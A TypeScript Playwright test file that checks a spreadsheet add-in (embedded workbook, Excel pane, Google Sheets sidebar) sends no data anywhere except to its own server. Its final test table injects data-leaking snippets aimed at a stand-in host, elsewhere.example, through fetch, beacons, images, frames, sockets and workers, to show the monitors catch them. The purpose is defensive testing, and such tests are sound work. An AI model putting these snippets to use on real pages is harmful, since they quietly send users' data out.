// Nothing leaves: the main job in the embedded workbook, in Excel's pane and in Google's sidebar asks for static files of its own and office.js, and for
// nothing else. Three witnesses: the browser's own account of requests, the server of our files, and a proxy that is the only way out.
import { existsSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import type { CellValue } from '../../shared/model/cell';
import { distFolder, serveDist, watchPage, type Contexts, type Site } from './browser';
import { openEmbeddedPage } from './embedded-page';
import { answerWithFake, officeJs, openExcelPane } from './excel-page';
import { watchNetwork, type WatchedNetwork } from './network';
import { connected } from './opened-in-tests';
import { openSidebar } from './sidebar-page';
import { until } from './until';

jest.setTimeout(240_000);

const browser = connected();
let network: WatchedNetwork;
let site: Site | undefined;
let contexts: Contexts;

beforeEach(async () => {
  network = await watchNetwork();
  contexts = network.through(browser());
});
afterEach(async () => {
  await Promise.all(
    browser()
      .contexts()
      .map((context) => context.close()),
  );
  await Promise.all([site?.close(), network.close()]);
  site = undefined;
});

const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });
const shows = (page: Page, text: string) => page.getByText(text).first().waitFor({ timeout: 60_000 });

/** What was asked of our server beside files of the build: other methods, queries, paths that are no file. */
function notFiles(build: string, asked: readonly string[]): string[] {
  return asked.filter((line) => {
    const file = path.join(distFolder, build, line === 'GET /' ? 'index.html' : line.replace(/^GET \//, ''));
    return !line.startsWith('GET /') || !existsSync(file) || !statSync(file).isFile();
  });
}

async function classify(page: Page): Promise<void> {
  await button(page, 'Preview').click();
  await shows(page, 'What will be written');
  await button(page, 'Write').click();
  await shows(page, 'Written to the workbook.');
}

/** Finds an account, opens its plan and writes an objective into it. */
async function plan(page: Page, account: string): Promise<void> {
  await button(page, 'Account plan').click();
  await page.getByRole('combobox', { name: 'Account' }).click();
  await page.keyboard.type(account);
  await page.getByRole('option').first().waitFor();
  await page.keyboard.press('Enter');
  await page.locator('.kam-account').waitFor();
  await page.getByRole('button', { name: /^Objectives and actions/ }).click();
  await button(page, 'Add an objective').click();
  await page.keyboard.type('half of its purchases with us');
  await shows(page, 'Saved in the workbook.');
}

test('the embedded workbook: a sample opened, classified, planned and saved, its worker included', async () => {
  site = await serveDist('embedded');
  const workbook = await openEmbeddedPage(contexts, site);
  const workers: string[] = [];
  workbook.page.on('worker', (worker) => workers.push(worker.url()));
  await workbook.openSample('superstore');
  await classify(workbook.page);
  await plan(workbook.page, 'Tamara Chand');
  await workbook.save();
  expect(workers.length).toBeGreaterThan(0);
  expect(workers.filter((url) => !url.startsWith(site!.url))).toEqual([]);
  expect([workbook.foreign, workbook.errors, network.left]).toEqual([[], [], []]);
  expect(site.asked.length).toBeGreaterThan(3);
  expect(notFiles('embedded', site.asked)).toEqual([]);
});

/** The policy we recommend stands in a block of its own in the documentation. */
function recommendedPolicy(): string {
  const page = readFileSync(path.resolve(__dirname, '../../docs/install-excel.en.md'), 'utf8');
  const [, policy] = /```text\n(default-src [^\n]+)\n```/.exec(page) ?? [];
  if (policy === undefined) throw new Error('docs/install-excel.en.md recommends no content security policy');
  return policy;
}

test('the pane in Excel: classified and planned, under the content security policy we recommend', async () => {
  site = await serveDist('excel', { 'Content-Security-Policy': recommendedPolicy() });
  const { page, faults } = await openExcelPane(contexts, site, await answerWithFake(), {
    displayLanguage: 'en-US',
  });
  await classify(page);
  await plan(page, 'Klient 1');
  // The test answers for Microsoft: office.js does not get as far as the proxy.
  expect(faults).toEqual({ foreign: [officeJs], errors: [] });
  expect(network.left).toEqual([]);
  expect(notFiles('excel', site.asked)).toEqual([]);
});

const accounts: CellValue[][] = [
  ['Klient', 'Obrót 2025'],
  ...Array.from({ length: 40 }, (_, i): CellValue[] => [`Klient ${String(i + 1)}`, 90_000 - i * 2_000]),
];

test('the sidebar in Google Sheets: classified and planned; its page is all that is asked for', async () => {
  site = await serveDist('apps-script');
  const { page, faults } = await openSidebar(contexts, site, {
    userLocale: 'en',
    sheets: [{ name: 'Klienci', cells: accounts }],
  });
  await classify(page);
  await plan(page, 'Klient 1');
  expect(faults).toEqual({ foreign: [], errors: [] });
  expect(network.left).toEqual([]);
  expect(site.asked).toEqual(['GET /sidebar.html']);
});

const elsewhere = 'http://elsewhere.example';

/** Ways a page can reach another address; without this table the tests above could pass by not looking. */
test.each<[string, string]>([
  ['a request', `fetch('${elsewhere}/a').catch(() => 0)`],
  ['a picture', `new Image().src = '${elsewhere}/a.png'`],
  ['a beacon', `navigator.sendBeacon('${elsewhere}/a', 'figures')`],
  ['a style sheet', `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${elsewhere}/a.css' }))`], // prettier-ignore
  ['a frame', `document.body.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}/a' }))`], // prettier-ignore
  ['a socket', `new WebSocket('${elsewhere.replace('http', 'ws')}/a')`],
  ['a worker', `new Worker(URL.createObjectURL(new Blob(["fetch('${elsewhere}/a')"])))`],
])('%s to elsewhere would be seen by the browser and by the proxy', async (_, script) => {
  site = await serveDist('excel');
  const page = await (await contexts.newContext()).newPage();
  const { foreign } = watchPage(page);
  await page.goto(`${site.url}help.en.html`);
  expect([foreign, network.left]).toEqual([[], []]);
  await page.evaluate(`void (${script})`);
  await until(() => foreign.length > 0 && network.left.length > 0, 'both have seen it');
  expect(foreign[0]).toContain('elsewhere.example/a');
  expect(network.left[0]).toContain('elsewhere.example');
});

test('figures sent to our own address would be seen by the server', async () => {
  site = await serveDist('excel');
  const page = await (await contexts.newContext()).newPage();
  await page.goto(`${site.url}help.en.html`);
  await page.evaluate(async () => {
    await fetch('taskpane.html?revenue=1');
    await fetch('taskpane.html', { method: 'POST', body: '1' });
    await fetch('collect');
  });
  const unusual = ['GET /taskpane.html?revenue=1', 'POST /taskpane.html', 'GET /collect'];
  expect(notFiles('excel', site.asked).filter((line) => line !== 'GET /favicon.ico')).toEqual(unusual);
});
